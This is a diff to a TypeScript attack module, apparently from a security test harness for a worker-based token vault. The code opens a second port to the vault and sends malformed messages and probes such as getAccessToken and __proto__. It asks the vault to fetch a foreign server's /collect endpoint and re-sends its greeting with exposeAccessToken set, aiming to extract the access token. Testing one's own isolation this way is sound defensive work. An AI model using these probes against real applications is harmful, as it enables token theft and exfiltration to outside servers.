@@ -3,8 +3,8 @@ import { count } from "../markup";
 import type { Attack, Targets } from "./attack";
 import { ForeignServer } from "./foreign-server";
 import type { Loot } from "./loot";
+import { type Overheard, overhear } from "./overheard";
 
-const PROTOCOL = 1;
 const REPLY_MAX_MS = 8000;
 
 export const secondPort: Attack = {
@@ -13,18 +13,16 @@ export const secondPort: Attack = {
   method:
     "Another connection to the vault, and every kind of message sent through it; for the naive client, a new frame.",
   async run(targets, loot) {
-    const { client, naive } = targets;
-    await naive.ready();
+    await targets.naive.ready();
     readFromFrame(loot);
-    const naiveNote = "A frame of the same origin has the same localStorage.";
-    const { isolation } = client.session;
-    if (isolation === "page") return { strongroom: "There is no vault to connect to.", naive: naiveNote };
-    const outcome = await converse(isolation, targets, loot);
+    const naive = "A frame of the same origin has the same localStorage.";
+    const overheard = await overhear(targets.options);
+    if (overheard === null) return { strongroom: "There is no vault to connect to.", naive };
     const what =
-      isolation === "shared"
+      targets.client.session.isolation === "shared"
         ? "A second port to the shared vault"
         : "This tab's worker has no second port. Another worker of the same script";
-    return { strongroom: `${what}: ${outcome}`, naive: naiveNote };
+    return { strongroom: `${what}: ${await converse(overheard, targets, loot)}`, naive };
   },
 };
 
@@ -43,11 +41,9 @@ interface Reply {
   failure?: { code?: string };
 }
 
-async function converse(isolation: string, targets: Targets, loot: Loot): Promise<string> {
-  const { options, servers } = targets;
-  const { workerUrl, wasmUrl, ...policy } = options;
+async function converse({ hello, start }: Overheard, { servers }: Targets, loot: Loot): Promise<string> {
   const foreign = await ForeignServer.watch(servers.foreignUrl);
-  const worker = open(isolation, String(workerUrl), options.provider.clientId);
+  const worker = start();
   const port = worker instanceof SharedWorker ? worker.port : worker;
   const replies: Reply[] = [];
   let heard = () => {};
@@ -74,20 +70,13 @@ async function converse(isolation: string, targets: Targets, loot: Loot): Promis
     sent += 1;
     port.postMessage(message);
   };
-  const hello = (configuration: object) => ({
-    type: "hello",
-    protocol: PROTOCOL,
-    options: JSON.stringify({ ...configuration, isolation }),
-    wasm: new URL(String(wasmUrl), location.href).href,
-    survives: worker instanceof SharedWorker,
-    tab: undefined,
-  });
-
   // Before it has said who it is, and what nobody knows.
   for (const junk of [null, 7, "token", [], { id: 1 }]) send(junk);
   for (const type of ["getAccessToken", "token", "dump", "__proto__", "constructor"]) send({ type, id: 1 });
   send({ type: "ask", id: 1, question: "getAccessToken", given: [] });
-  send(hello(policy));
+  // The name of a lock is how the vault knows that a page is gone, which this one is not.
+  const greeting = { ...hello, tab: undefined };
+  send(greeting);
   await until(() => has("welcome", "refused"));
 
   let id = 1;
@@ -101,18 +90,19 @@ async function converse(isolation: string, targets: Targets, loot: Loot): Promis
     send(request(id, url));
   }
   const lastId = id;
-  await until(() => Array.from({ length: lastId - 1 }, (_, index) => index + 2).every(isAnswered));
-  for (let each = 2; each <= lastId; each += 1) {
+  const ids = Array.from({ length: lastId - 1 }, (_, index) => index + 2);
+  await until(() => has("refused") || ids.every(isAnswered));
+  for (const each of ids) {
     send({ type: "pull", id: each });
     send({ type: "piece", id: each, bytes: null, isBroken: false });
     send({ type: "abort", id: each });
   }
   // The vault answers no call to a foreign server; that server says whether there was one.
   send(request(lastId + 1, `${foreignUrl}/collect`));
-  send(hello({ ...policy, exposeAccessToken: true }));
+  send({ ...greeting, options: exposing(hello.options) });
   send({ type: "heard", kind: "online" });
   send({ type: "ping" });
-  await until(() => has("pong"));
+  await until(() => has("pong", "refused"));
   send({ type: "bye" });
   if (worker instanceof SharedWorker) worker.port.close();
   else worker.terminate();
@@ -139,29 +129,7 @@ function request(id: number, url: string): object {
   return { type: "fetch", id, url, init, body: null, hasSignal: false };
 }
 
-function open(isolation: string, url: string, clientId: string): SharedWorker | Worker {
-  const options = {
-    type: "module",
-    credentials: "same-origin",
-    name: `strongroom/${PROTOCOL}/${clientId}`,
-    extendedLifetime: true,
-  } as const;
-  const script = trusted(url) as string;
-  return isolation === "shared" ? new SharedWorker(script, options) : new Worker(script, options);
-}
-
-interface Policy {
-  createScriptURL(url: string): unknown;
-}
-
-let policy: Policy | undefined;
-
-/** The page's Content Security Policy requires Trusted Types and lets this one policy in, for the sake of the attack. */
-function trusted(url: string): unknown {
-  const { trustedTypes } = globalThis as {
-    trustedTypes?: { createPolicy(name: string, rules: object): Policy };
-  };
-  if (trustedTypes === undefined) return url;
-  policy ??= trustedTypes.createPolicy("attack-panel", { createScriptURL: (url: string) => url });
-  return policy.createScriptURL(new URL(url, location.href).href);
+function exposing(options: unknown): unknown {
+  if (typeof options !== "string") return { ...(options as object), exposeAccessToken: true };
+  return JSON.stringify({ ...JSON.parse(options), exposeAccessToken: true });
 }
